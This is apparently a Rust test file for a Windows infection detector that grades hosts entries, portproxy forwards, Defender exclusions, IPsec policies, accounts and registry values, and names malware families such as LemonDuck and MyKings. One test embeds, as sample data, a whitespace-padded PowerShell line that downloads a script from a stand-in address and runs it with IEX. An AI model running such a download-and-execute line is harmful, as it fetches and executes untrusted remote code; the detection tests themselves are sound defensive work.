use super::detect;
use crate::assessment::{Action, Confidence, Finding, Kind, Severity, Verdict};
use crate::test_support::records_of;
use evidence::{Account, RecordData, RegistryValue, Setting};
use intel::Intel;
use std::collections::BTreeMap;

fn setting(kind: &str, name: &str, value: &str) -> RecordData {
    RecordData::Setting(Setting {
        kind: kind.into(),
        name: name.into(),
        value: value.into(),
        details: BTreeMap::new(),
    })
}

fn with(kind: &str, name: &str, value: &str, details: &[(&str, &str)]) -> RecordData {
    let RecordData::Setting(mut setting) = setting(kind, name, value) else { unreachable!() };
    setting.details = details.iter().map(|(name, value)| ((*name).into(), (*value).into())).collect();
    RecordData::Setting(setting)
}

fn found(records: impl IntoIterator<Item = RecordData>) -> Vec<Finding> {
    detect(&records_of(records), Intel::builtin())
}

/// Severity, confidence and action of what is said of one record; `None` where nothing is.
fn judged(record: RecordData) -> Option<(Severity, Confidence, Action)> {
    let found = found([record]);
    assert!(found.len() < 2, "{found:#?}");
    found.first().map(|finding| (finding.severity, finding.confidence, finding.action))
}

const MEDIUM_REVIEW: Option<(Severity, Confidence, Action)> =
    Some((Severity::Medium, Confidence::Possible, Action::Review));
const LOW: Option<(Severity, Confidence, Action)> =
    Some((Severity::Low, Confidence::Possible, Action::Review));
const SHUT_OUT: Option<(Severity, Confidence, Action)> =
    Some((Severity::Medium, Confidence::Likely, Action::Remove));

#[test]
fn hosts_entries_count_by_whom_they_shut_out() {
    for (name, address, expected) in [
        ("localhost", "127.0.0.1", None),
        ("intranet", "10.0.0.7", None),
        ("build.corp.example", "192.168.1.9", None),
        ("www.example.org", "203.0.113.5", None),
        ("ads.example.org", "0.0.0.0", None),
        ("update.eset.com", "127.0.0.1", SHUT_OUT),
        ("update.eset.com", "::", SHUT_OUT),
        ("dnl-01.kaspersky.com", "203.0.113.5", SHUT_OUT),
        ("download.windowsupdate.com", "203.0.113.5", SHUT_OUT),
        ("download.windowsupdate.com", "0.0.0.0", MEDIUM_REVIEW),
        ("download.windowsupdate.com", "10.0.0.2", LOW),
        ("pool.minexmr.com", "0.0.0.0", LOW),
        ("pool.minexmr.com", "203.0.113.5", MEDIUM_REVIEW),
        ("t.zer9g.com", "203.0.113.5", Some((Severity::High, Confidence::Likely, Action::Remove))),
        ("t.zer9g.com", "0.0.0.0", None),
        ("update.eset.com", "no address", None),
    ] {
        assert_eq!(judged(setting("hosts-entry", name, address)), expected, "{name} {address}");
    }
}

#[test]
fn the_hosts_file_belongs_to_windows() {
    let folder = |path: &str| judged(setting("hosts-folder", "", path));
    for path in [
        r"%SystemRoot%\System32\drivers\etc",
        r"%windir%\system32\drivers\etc\",
        r"D:\WINDOWS\System32\drivers\etc",
    ] {
        assert_eq!(folder(path), None, "{path}");
    }
    let elsewhere = Some((Severity::Medium, Confidence::Likely, Action::Review));
    for path in [r"C:\ProgramData\net", r"%SystemRoot%\System32\drivers\etc\x", r"%TEMP%"] {
        assert_eq!(folder(path), elsewhere, "{path}");
    }
}

#[test]
fn rules_for_names_count_by_whom_they_shut_out() {
    let rule = |name: &str, servers: &str| judged(setting("dns-rule", name, servers));
    let likely = Some((Severity::Medium, Confidence::Likely, Action::Review));
    assert_eq!(rule(".corp.example", "10.0.0.1"), None);
    assert_eq!(rule(".", "192.0.2.1"), None);
    assert_eq!(rule(".kaspersky.com", "203.0.113.5"), likely);
    assert_eq!(rule("update.eset.com", "127.0.0.1;10.0.0.1"), likely);
    assert_eq!(rule(".windowsupdate.com", "203.0.113.5"), MEDIUM_REVIEW);
    assert_eq!(rule(".windowsupdate.com", "10.0.0.1; fd00::1"), LOW);
}

#[test]
fn a_list_against_advertising_may_block_pools() {
    let list = (0..200).map(|at| setting("hosts-entry", &format!("ad{at}.example"), "0.0.0.0"));
    let all = found(list.chain([setting("hosts-entry", "nanopool.org", "0.0.0.0")]));
    assert_eq!(all, []);
}

#[test]
fn a_forwarded_port_of_a_family_is_known_and_others_are_looked_at() {
    let family = found([setting("portproxy", "0.0.0.0:65529", "1.1.1.1:53")]).remove(0);
    assert_eq!(family.family.as_deref(), Some("LemonDuck"));
    assert_eq!((family.severity, family.action), (Severity::High, Action::Remove));
    assert_eq!(family.subject["Kind"], "portproxy");
    for (from, to) in [("*:65532", "1.1.1.1:53"), ("0.0.0.0/65533", "1.1.1.1/53")] {
        let found = found([setting("portproxy", from, to)]);
        assert_eq!(found[0].family.as_deref(), Some("LemonDuck"), "{from}");
        assert_eq!(found[0].action, Action::Remove);
    }
    assert_eq!(judged(setting("portproxy", "0.0.0.0:8080", "192.168.0.5:80")), MEDIUM_REVIEW);
    assert_eq!(judged(setting("portproxy", "::1/3000", "web.example/80")), MEDIUM_REVIEW);
    assert_eq!(judged(setting("portproxy", "nonsense", "x")), None);
}

#[test]
fn exclusions_of_everything_are_looked_at() {
    let medium = Some((Severity::Medium, Confidence::Likely, Action::Review));
    assert_eq!(judged(setting("defender-exclusion", r"C:\", "paths")), medium);
    assert_eq!(judged(setting("defender-exclusion", "powershell.exe", "Processes")), medium);
    assert_eq!(judged(setting("defender-exclusion", r"C:\ProgramData\x\run.exe", "Paths")), LOW);
    assert_eq!(judged(setting("defender-exclusion", r"D:\SQL\Data", "Paths")), None);
    let mykings = found([setting("defender-exclusion", r"C:\Windows\debug\lsmose.exe", "paths")]).remove(0);
    assert_eq!((mykings.family.as_deref(), mykings.severity), (Some("MyKings"), Severity::Medium));
}

#[test]
fn routes_that_lead_nowhere() {
    assert_eq!(judged(setting("route", "198.51.100.7,255.255.255.255,0.0.0.0,1", "")), MEDIUM_REVIEW);
    assert_eq!(judged(setting("route", "10.0.0.0,255.0.0.0,192.168.0.9,1", "")), None);
    assert_eq!(judged(setting("route", "broken", "")), None);
}

#[test]
fn name_servers_of_a_family_all_of_them_and_set_by_hand() {
    let servers = |how: &str, list: &[&str]| {
        let records = list.iter().map(|server| with("dns-server", "{card}", server, &[("how", how)]));
        found(records.collect::<Vec<_>>())
    };
    let both = servers("static", &["223.5.5.5", "8.8.8.8"]);
    assert_eq!(both.iter().map(|f| (f.severity, f.evidence.len())).collect::<Vec<_>>(), [(Severity::Low, 2)]);
    assert_eq!(servers("dhcp", &["223.5.5.5", "8.8.8.8"]), []);
    let global = ["223.5.5.5", "8.8.8.8"].map(|server| with("dns-server", "", server, &[("how", "static")]));
    assert_eq!(found(global).len(), 1, "those of every interface");
    assert_eq!(servers("static", &["8.8.8.8"]), []);
    assert_eq!(servers("static", &["223.5.5.5", "8.8.8.8", "10.0.0.1"]), []);
}

#[test]
fn ipsec_policies_by_name_and_without() {
    let parts = |names: &[(&str, &str)]| {
        found(names.iter().map(|(name, class)| setting("ipsec-policy", name, class)).collect::<Vec<_>>())
    };
    let family =
        parts(&[("netbc", "ipsecPolicy"), ("block", "ipsecFilter"), ("block", "ipsecNegotiationPolicy")]);
    assert_eq!(family[0].family.as_deref(), Some("Adylkuzz"));
    assert_eq!((family[0].severity, family[0].action), (Severity::Medium, Action::Review), "names alone");
    assert_eq!(parts(&[("qianye", "ipsecPolicy")])[0].severity, Severity::Low);
    assert_eq!(parts(&[("Client (Respond Only)", "ipsecPolicy")]), []);
    assert_eq!(parts(&[]), []);
}

#[test]
fn firewall_rules_of_families_only() {
    let rule = |name: &str, details: &[(&str, &str)]| judged(with("firewall-rule", name, "allow", details));
    assert_eq!(rule("SDNSd", &[]), MEDIUM_REVIEW);
    assert_eq!(rule("deny445", &[]), None);
    let open = [("direction", "in"), ("action", "allow"), ("local-ports", "65529")];
    assert_eq!(rule("x", &open), MEDIUM_REVIEW);
    assert_eq!(rule("x", &[("direction", "out"), ("action", "allow"), ("local-ports", "65529")]), None);
}

#[test]
fn mof_files_outside_of_windows() {
    let mof = |path: &str| judged(setting("wmi-autorecover-mof", path, "")).map(|(severity, ..)| severity);
    assert_eq!(mof(r"%windir%\system32\wbem\cimwin32.mof"), None);
    assert_eq!(mof(r"C:\Program Files\Vendor\x.mof"), None);
    assert_eq!(mof(r"C:\Users\Public\x.mof"), Some(Severity::Medium));
    assert_eq!(mof(r"C:\Windows\Temp\x.mof"), Some(Severity::Medium));
    assert_eq!(mof(r"E:\x.mof"), Some(Severity::Low));
}

#[test]
fn accounts_that_infections_make() {
    let account = |name: &str, rid: u32, enabled: bool| {
        let account =
            Account { name: name.into(), rid: Some(rid), enabled: Some(enabled), ..Account::default() };
        judged(RecordData::Account(account)).map(|(severity, ..)| severity)
    };
    assert_eq!(account("k8h3d", 1001, true), Some(Severity::Medium));
    assert_eq!(account("support$", 1001, true), Some(Severity::Medium));
    assert_eq!(account("Guest", 501, true), Some(Severity::Low));
    assert_eq!(account("Guest", 501, false), None);
    assert_eq!(account("Administrator", 500, true), None);
    assert_eq!(account("WDAGUtilityAccount", 504, false), None);
}

#[test]
fn the_same_setting_from_two_sources_is_one_finding() {
    let twice = || setting("portproxy", "0.0.0.0:8080", "192.168.0.5:80");
    let found = found([twice(), twice()]);
    assert_eq!(found.len(), 1);
    assert_eq!((found[0].kind, found[0].evidence.len()), (Kind::Setting, 2));
}

#[test]
fn a_payload_in_the_registry_is_one_and_a_licence_is_none() {
    let value = |key: &str, kind: &str, data: String| {
        let value =
            RegistryValue { key: key.into(), name: "x".into(), kind: kind.into(), data, key_written: None };
        crate::assess(&records_of([RecordData::Registry(value)]), Intel::builtin())
    };
    let script = format!(
        "$c=(New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1');IEX $c;#{}",
        " ".repeat(1_000)
    );
    let bad = value(r"HKLM\SOFTWARE\Odd", "REG_SZ", script.clone());
    assert_eq!(bad.findings[0].action, Action::Remove, "{:#?}", bad.findings);
    assert_eq!(bad.verdict, Verdict::Infected);
    let program = value(r"HKCU\Software\Odd", "REG_BINARY", format!("4d5a90000300{}", "00".repeat(1_000)));
    assert_eq!((program.findings[0].severity, program.findings[0].action), (Severity::High, Action::Review));
    let hex = |text: &str| -> String {
        let bytes = text.encode_utf16().flat_map(u16::to_le_bytes);
        bytes
            .flat_map(|byte| [byte >> 4, byte & 15])
            .filter_map(|digit| char::from_digit(digit.into(), 16))
            .collect()
    };
    let wide = value(r"HKLM\SOFTWARE\Odd", "REG_BINARY", hex(&script));
    assert_eq!((wide.findings[0].action, wide.verdict), (Action::Remove, Verdict::Infected));
    let picture = value(r"HKLM\SOFTWARE\Vendor", "REG_BINARY", "89504e470d0a1a0a".repeat(400));
    assert!(picture.findings.is_empty(), "{:#?}", picture.findings);
    let licence = value(r"HKLM\SOFTWARE\Vendor", "REG_SZ", "QUJDREVGR0hJSktMTU5PUA".repeat(100));
    assert!(licence.findings.is_empty(), "{:#?}", licence.findings);
}

#[test]
fn an_exclusion_says_how_it_is_taken_out_and_put_back_without_its_name() {
    let local = found([setting("defender-exclusion", "C:\\", "paths")]).remove(0);
    let commands: Vec<_> = local.reasons.iter().filter_map(|reason| reason.text("command")).collect();
    let [out, back] = commands[..] else { panic!("{commands:?}") };
    assert!(out.contains("Remove-MpPreference -ExclusionPath <NAME>") && back.contains("Add-MpPreference"));
    assert!(local.reasons.iter().any(|reason| reason.id == "hardening-source"));
    let policy = found([with("defender-exclusion", "C:\\", "paths", &[("given_by", "policy")])]).remove(0);
    assert!(policy.reasons.iter().all(|reason| reason.text("command").is_none()), "{policy:?}");
}
